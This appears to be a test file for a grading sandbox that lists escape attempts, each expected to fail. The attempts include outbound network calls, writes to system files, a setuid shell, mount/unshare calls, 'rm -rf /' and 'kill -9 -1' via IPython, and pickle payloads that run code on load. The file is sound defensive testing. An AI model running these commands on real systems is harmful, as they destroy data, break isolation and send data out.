"""F. Reaching beyond the sandbox: no network, nothing to write to that stays, and nobody else is there."""

from tests.hostile.attacks import CORRECT, FAILED, RIGHT, Attack, body

ATTACKS = [
    Attack("F1", "calls home", body("import urllib.request; return urllib.request.urlopen('http://example.com').read()"),
           FAILED, says="URLError"),
    Attack("F1", "opens a socket", body("import socket; return socket.create_connection(('127.0.0.1', 22), 1).fileno()"),
           FAILED, says="PermissionError"),
    Attack("F2", "writes into the system", body("open('/usr/x', 'w'); return 0.0"), FAILED, says="OSError"),
    Attack("F2", "writes beside the worker", body("open('/grader/course_lib/observe.py', 'a'); return 0.0"), FAILED,
           says="OSError"),
    Attack("F2", "writes into the packages", body("open(torch.__file__, 'a'); return 0.0"), FAILED, says="OSError"),
    Attack("F2", "writes kernel settings", body("os.open('/proc/sys/vm/swappiness', os.O_WRONLY); return 0.0"), FAILED,
           says="OSError"),
    Attack("F2", "writes into devices", body("open('/dev/x', 'w'); return 0.0"), FAILED, says="OSError"),
    Attack("F2", "mounts", body("""
import ctypes
if ctypes.CDLL(None, use_errno=True).mount(b'tmpfs', b'/usr', b'tmpfs', 0, None) == -1:
    raise PermissionError
return 0.0"""), FAILED, says="PermissionError"),
    Attack("F2", "makes a namespace", body("""
import ctypes
if ctypes.CDLL(None, use_errno=True).unshare(0x10000000) == -1:
    raise PermissionError
return 0.0"""), FAILED, says="PermissionError"),
    Attack("F6", "loads a pickle", body("""
import pickle
class Payload:
    def __reduce__(self): return os._exit, (0,)
return pickle.loads(pickle.dumps(Payload()))"""), FAILED, says="ended Python itself"),
    Attack("F1", "asks for an address", body("import socket; return socket.getaddrinfo('example.com', 80)"), FAILED),
    Attack("F1", "sends packets by hand", body("""
import socket
return socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).fileno()"""), FAILED, says="PermissionError"),
    Attack("F1", "sends a datagram", body("""
import socket
return socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'marks', ('192.0.2.1', 53))"""), FAILED, says="PermissionError"),
    Attack("F1", "asks the machine's own services", body("""
import socket
end = socket.socket(socket.AF_UNIX)
end.connect('/run/dbus/system_bus_socket')
return 0.0"""), FAILED),
    Attack("F1", "listens", body("import socket; return socket.create_server(('127.0.0.1', 0)).fileno()"), FAILED,
           says="PermissionError"),
    Attack("F1", "fetches a page by a program", body("""
import subprocess
return subprocess.run(['curl', '-s', 'http://example.com'], check=True).returncode"""), FAILED),
    Attack("F2", "looks for the homes of others", body("return os.listdir('/home') + os.listdir('/root')"), FAILED),
    Attack("F2", "removes everything", body("""
import shutil
for folder in ('/grader', '/etc', '/dev'): shutil.rmtree(folder, ignore_errors=True)
os.rmdir('/usr/bin')"""), FAILED),
    Attack("F2", "makes a program for its owner", body("""
open('/tmp/sh', 'w').close()
os.chmod('/tmp/sh', 0o4755)
os.setuid(0 if os.getuid() else 1)
os.chown('/usr', 0, 0)
return 0.0"""), FAILED),
    Attack("F2", "leads a link to a file of the system", body("""
os.symlink('/etc/ld.so.cache', f'link{time.monotonic_ns()}')
for name in os.listdir('.'):
    if name.startswith('link'): open(name, 'a').write('x')
return 0.0"""), FAILED, says="Error"),
    Attack("F2", "sets the clock", body("time.clock_settime(time.CLOCK_REALTIME, 0); return 0.0"), FAILED,
           says="PermissionError"),
    Attack("F2", "becomes more important", body("os.nice(-10); return 0.0"), FAILED, says="PermissionError"),
    Attack("F2", "loads a module into the kernel", body("""
import ctypes
if ctypes.CDLL(None, use_errno=True).syscall(313, 0, b'', 0) == -1: raise PermissionError
return 0.0"""), FAILED, says="PermissionError"),
    Attack("F4", "changes the compiled files of a package", body("""
import importlib.util
open(importlib.util.cache_from_source(torch.__file__), 'wb').write(b'x')
return 0.0"""), FAILED, says="OSError"),
    Attack("F4", "puts start-up files where they would be read", body("""
import site
open(os.path.join(site.getsitepackages()[0], 'evil.pth'), 'w').write('import os')
return 0.0"""), FAILED, says="OSError"),
    Attack("F4", "installs a kernel", body("""
os.makedirs('/usr/local/share/jupyter/kernels/evil')
return 0.0"""), FAILED, says="OSError"),
    Attack("F5", "asks IPython for a shell", """
get_ipython().system('rm -rf /')
get_ipython().run_cell_magic('bash', '', 'rm -rf /')
!kill -9 -1
%run -i evil.py
""" + RIGHT + body("return right_slope(f, a)"), CORRECT, score=1.0),
    Attack("F5", "takes its answer from a shell", body("""
answer = get_ipython().getoutput('echo 0.5')
return float(answer[0])"""), FAILED),
    Attack("F6", "loads a checkpoint that runs code", body("""
import io, pickle
class Payload:
    def __reduce__(self): return os._exit, (0,)
saved = io.BytesIO()
torch.save(Payload(), saved)
saved.seek(0)
return torch.load(saved, weights_only=False)"""), FAILED, says="ended Python itself"),
    Attack("F6", "loads an array of objects that run code", body("""
import io
import numpy as np
class Payload:
    def __reduce__(self): return os._exit, (0,)
saved = io.BytesIO()
np.save(saved, np.array([Payload()], dtype=object), allow_pickle=True)
saved.seek(0)
return np.load(saved, allow_pickle=True)"""), FAILED, says="ended Python itself"),
]  # fmt: skip
